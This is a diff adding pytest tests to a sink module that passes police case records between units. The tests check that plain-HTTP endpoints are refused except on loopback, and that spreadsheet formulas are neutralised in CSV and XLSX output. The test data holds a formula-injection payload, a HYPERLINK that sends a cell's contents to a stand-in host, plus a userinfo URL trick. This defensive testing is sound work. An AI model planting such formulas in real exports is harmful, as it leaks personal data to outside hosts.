@@ -55,6 +55,30 @@ def test_a_sink_config_lists_every_problem_with_its_yaml_path() -> None:
     assert any(p.startswith("id:") for p in problems)
 
 
+@pytest.mark.parametrize(("url", "accepted"), [
+    ("https://police-cms.example.gov.cn/api/inbox", True),
+    ("http://127.0.0.1:8088/inbox", True),
+    ("http://localhost/inbox", True),
+    ("http://[::1]:9000", True),
+    ("http://police-cms.example.gov.cn/api/inbox", False),
+    ("http://localhost.example.com/inbox", False),
+    ("http://127.0.0.1@cms.example.com/inbox", False),
+])
+def test_a_unit_endpoint_is_reached_over_tls_unless_it_is_this_host(
+        url: str, accepted: bool) -> None:
+    """Inbox events carry names, ID numbers and case facts, and each request the unit's
+    credentials: plain HTTP is refused at start, with the reason, except to loopback."""
+    config = {"id": "police-inbox", "unit": EXAMPLE_POLICE, "direction": "sink",
+              "kind": "http", "target": {"url": url}}
+    if accepted:
+        assert parse_sink_config(config).target.url == url  # type: ignore[union-attr]
+        return
+    with pytest.raises(ConfigError) as caught:
+        parse_sink_config(config)
+    assert any(p.startswith("target.url:") and "https://" in p and "ID numbers" in p
+               for p in caught.value.problems), caught.value.problems
+
+
 def test_a_sink_config_is_told_from_a_source_config_and_names_its_group_by_the_unit() -> None:
     raw = {"id": "police-inbox", "unit": EXAMPLE_POLICE, "direction": "sink", "kind": "file",
            "target": {"path": "/tmp/drop", "format": "xlsx", "encoding": "gbk"}}
@@ -105,6 +129,33 @@ def test_an_xlsx_drop_has_a_header_row_and_the_event(tmp_path: Path) -> None:
     assert sheet is not None
     header, row = list(sheet.iter_rows(values_only=True))
     assert dict(zip(header, row, strict=True))["event_id"] == ITEM.event_id
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_formula_in_case_text_reaches_the_unit_as_text(tmp_path: Path,
+                                                         file_format: str) -> None:
+    """Text from one unit's system must not run in another unit's spreadsheet program
+    (formula injection): a cell a program would read as a formula is written as text,
+    and a signed number stays a number."""
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"点击")'
+    item = InboxItem(ITEM.event_id, ITEM.event_type,
+                     {**ITEM.record, "violation_facts": hostile, "fine": "-5",
+                      "note": "@SUM(A1:A9)"})
+    target = FileTarget(FileTargetConfig(path=tmp_path, format=file_format))  # type: ignore[arg-type]
+    asyncio.run(target.deliver(item))
+    path = tmp_path / f"CaseReferred-{ITEM.event_id}.{file_format}"
+    if file_format == "csv":
+        [row] = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
+        assert row["violation_facts"] == "'" + hostile
+        assert row["note"] == "'@SUM(A1:A9)" and row["fine"] == "-5"
+        return
+    sheet = openpyxl.load_workbook(path).active
+    assert sheet is not None
+    header, cells = list(sheet.iter_rows())
+    written = {name.value: cell for name, cell in zip(header, cells, strict=True)}
+    assert written["violation_facts"].value == hostile
+    assert written["violation_facts"].data_type == "s"
+    assert not any(cell.data_type == "f" for cell in cells)
 
 
 def test_a_sql_row_per_event_the_event_id_its_primary_key(tmp_path: Path) -> None:
